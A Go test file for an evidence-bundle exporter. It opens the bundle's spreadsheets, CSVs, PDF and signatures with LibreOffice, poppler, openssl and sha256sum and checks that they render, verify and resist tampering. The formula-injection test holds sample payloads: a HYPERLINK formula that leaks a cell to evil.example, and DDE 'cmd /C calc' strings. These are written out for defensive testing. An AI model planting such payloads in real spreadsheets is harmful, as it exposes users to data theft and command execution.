package evidence

import (
	"archive/zip"
	"bytes"
	"context"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// These tests open the bundle with real readers: LibreOffice for the
// spreadsheets, poppler for the PDF, openssl and sha256sum for the
// signature and digests. CI installs them (.ci/run); elsewhere a missing
// tool skips its test.
func needTool(t *testing.T, name string) string {
	t.Helper()
	path, err := exec.LookPath(name)
	if err != nil {
		if os.Getenv("CI") != "" {
			t.Fatalf("%s is not installed; .ci/run installs it", name)
		}
		t.Skipf("%s is not installed", name)
	}
	return path
}

// unzipBundle extracts a bundle and returns the bag's folder.
func unzipBundle(t *testing.T, path string) string {
	t.Helper()
	dir := t.TempDir()
	zr, err := zip.OpenReader(path)
	if err != nil {
		t.Fatal(err)
	}
	defer zr.Close()
	root := ""
	for _, f := range zr.File {
		root, _, _ = strings.Cut(f.Name, "/")
		out := filepath.Join(dir, filepath.FromSlash(f.Name))
		if err := os.MkdirAll(filepath.Dir(out), 0o755); err != nil {
			t.Fatal(err)
		}
		rc, err := f.Open()
		if err != nil {
			t.Fatal(err)
		}
		b, err := io.ReadAll(rc)
		rc.Close()
		if err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(out, b, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	return filepath.Join(dir, root)
}

func run(t *testing.T, dir string, name string, args ...string) (string, error) {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 3*time.Minute)
	defer cancel()
	cmd := exec.CommandContext(ctx, name, args...)
	cmd.Dir = dir
	cmd.Env = append(os.Environ(), "HOME="+t.TempDir())
	out, err := cmd.CombinedOutput()
	return string(out), err
}

// soffice converts with LibreOffice headless, in a profile of its own.
func soffice(t *testing.T, outDir string, args ...string) {
	t.Helper()
	bin := needTool(t, "soffice")
	profile := "file://" + filepath.ToSlash(t.TempDir())
	all := append([]string{"-env:UserInstallation=" + profile, "--headless", "--norestore", "--nologo"}, args...)
	all = append(all, "--outdir", outDir)
	if out, err := run(t, outDir, bin, all...); err != nil {
		t.Fatalf("soffice %v: %v\n%s", args, err, out)
	}
}

// TestSpreadsheetsOpenInLibreOfficeWithNoFormulaEvaluated opens the
// workbook and a CSV in LibreOffice, with formula evaluation on for the
// CSV, and checks every hostile text comes back as text.
func TestSpreadsheetsOpenInLibreOfficeWithNoFormulaEvaluated(t *testing.T) {
	needTool(t, "soffice")
	bag := unzipBundle(t, validBundle(t))
	out := t.TempDir()

	// The workbook: every sheet to CSV (LibreOffice 7.2+: sheet -1 = all).
	soffice(t, out, "--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1", filepath.Join(bag, "data", "evidence.xlsx"))
	sheets := map[string]string{}
	for _, name := range []string{"Summary", "Actions", "Deadline changes", "RAG changes", "Lead changes", "KPI values"} {
		b, err := os.ReadFile(filepath.Join(out, "evidence-"+name+".csv"))
		if err != nil {
			t.Fatalf("LibreOffice did not give sheet %s: %v", name, err)
		}
		sheets[name] = string(b)
	}
	for sheet, texts := range map[string][]string{
		"RAG changes":      {`=HYPERLINK(""http://evil.example/?leak=""&A1,""Click for details"")`},
		"Deadline changes": {",=1+1,"},
		"Lead changes":     {evilAt, evilMinus, evilCmd},
		"Actions":          {evilMinus},
	} {
		for _, s := range texts {
			if !strings.Contains(sheets[sheet], s) {
				t.Errorf("sheet %s as LibreOffice reads it lacks the text %q:\n%s", sheet, s, sheets[sheet])
			}
		}
	}
	if !strings.Contains(sheets["Summary"], "Merkle root (base64)") {
		t.Errorf("Summary sheet: %s", sheets["Summary"])
	}

	// A CSV, imported with "evaluate formulas" on: a bare formula would be
	// computed (the control), the bundle's cells are not.
	control := filepath.Join(t.TempDir(), "control.csv")
	os.WriteFile(control, []byte(bom+"a,b\r\n=1+1,x\r\n"), 0o644)
	evaluate := "CSV:44,34,76,1,,0,false,true,false,false,false,-1,true"
	for _, f := range []string{control, filepath.Join(bag, "data", "deadline-changes.csv"), filepath.Join(bag, "data", "rag-changes.csv"), filepath.Join(bag, "data", "lead-changes.csv")} {
		soffice(t, out, "--infilter="+evaluate, "--convert-to", "html", f)
	}
	html := func(name string) string {
		b, err := os.ReadFile(filepath.Join(out, name+".html"))
		if err != nil {
			t.Fatal(err)
		}
		return string(b)
	}
	if c := html("control"); !strings.Contains(c, `sdval="2"`) {
		t.Fatalf("the control formula was not evaluated, so this test proves nothing:\n%s", c)
	}
	for name, texts := range map[string][]string{
		"deadline-changes": {"'=1+1"},
		"rag-changes":      {"'=HYPERLINK(&quot;http://evil.example/"},
		"lead-changes":     {"'+cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"},
	} {
		h := html(name)
		for _, s := range texts {
			if !strings.Contains(h, s) {
				t.Errorf("%s.csv in LibreOffice lacks the text %q", name, s)
			}
		}
	}
}

// TestReportPDFRenders renders report.pdf with poppler and reads its text.
func TestReportPDFRenders(t *testing.T) {
	needTool(t, "pdftoppm")
	bag := unzipBundle(t, validBundle(t))
	out := t.TempDir()
	if o, err := run(t, out, "pdftoppm", "-r", "40", "-png", filepath.Join(bag, "data", "report.pdf"), filepath.Join(out, "page")); err != nil {
		t.Fatalf("pdftoppm: %v\n%s", err, o)
	}
	pages, _ := filepath.Glob(filepath.Join(out, "page-*.png"))
	if len(pages) < 5 {
		t.Fatalf("report.pdf rendered %d pages", len(pages))
	}
	for _, p := range pages {
		b, _ := os.ReadFile(p)
		if !bytes.HasPrefix(b, []byte("\x89PNG")) || len(b) < 2000 {
			t.Fatalf("%s is not a rendered page", p)
		}
	}
	if _, err := exec.LookPath("pdftotext"); err == nil {
		txt, err := run(t, out, "pdftotext", "-layout", filepath.Join(bag, "data", "report.pdf"), "-")
		if err != nil {
			t.Fatal(err)
		}
		cp, _ := UnverifiedCheckpoint(readZip(t, validBundle(t), "data/checkpoint.txt"))
		for _, s := range []string{"RAG summary and direction of travel", "Deadline slips, with reasons", "Lead changes", "KPI trends", "How to verify", cp.RootBase64(), testKey.Fingerprint(), "Restructure delayed"} {
			if !strings.Contains(txt, s) {
				t.Errorf("the PDF's text lacks %q", s)
			}
		}
	}
}

// TestDigestsAndSignatureWithSha256sumAndOpenSSL runs the README's
// commands, exactly.
func TestDigestsAndSignatureWithSha256sumAndOpenSSL(t *testing.T) {
	needTool(t, "openssl")
	needTool(t, "sha256sum")
	bag := unzipBundle(t, validBundle(t))
	out, err := run(t, bag, "openssl", strings.Fields("pkeyutl -verify -pubin -inkey data/public-key.pem -rawin -in tagmanifest-sha256.txt -sigfile tagmanifest.sig")...)
	if err != nil || !strings.Contains(out, "Signature Verified Successfully") {
		t.Fatalf("openssl pkeyutl -verify: %v\n%s", err, out)
	}
	out, err = run(t, bag, "sh", "-c", "sha256sum -c tagmanifest-sha256.txt && sha256sum -c manifest-sha256.txt")
	if err != nil || strings.Contains(out, "FAILED") {
		t.Fatalf("sha256sum -c: %v\n%s", err, out)
	}
	out, err = run(t, bag, "sh", "-c", "openssl pkey -pubin -in data/public-key.pem -outform DER | sha256sum")
	if err != nil || !strings.HasPrefix(out, testKey.Fingerprint()+" ") {
		t.Fatalf("fingerprint with openssl: %v %q, want %s", err, out, testKey.Fingerprint())
	}
	// And they fail on a changed file.
	tm := filepath.Join(bag, "tagmanifest-sha256.txt")
	b, _ := os.ReadFile(tm)
	os.WriteFile(tm, append(b, '\n'), 0o644)
	if out, err := run(t, bag, "openssl", strings.Fields("pkeyutl -verify -pubin -inkey data/public-key.pem -rawin -in tagmanifest-sha256.txt -sigfile tagmanifest.sig")...); err == nil {
		t.Fatalf("openssl verified a changed tag manifest: %s", out)
	}
	os.WriteFile(filepath.Join(bag, "data", "actions.csv"), []byte("changed"), 0o644)
	if out, err := run(t, bag, "sha256sum", "-c", "manifest-sha256.txt"); err == nil || !strings.Contains(out, "data/actions.csv: FAILED") {
		t.Fatalf("sha256sum did not catch a changed file: %v\n%s", err, out)
	}
}
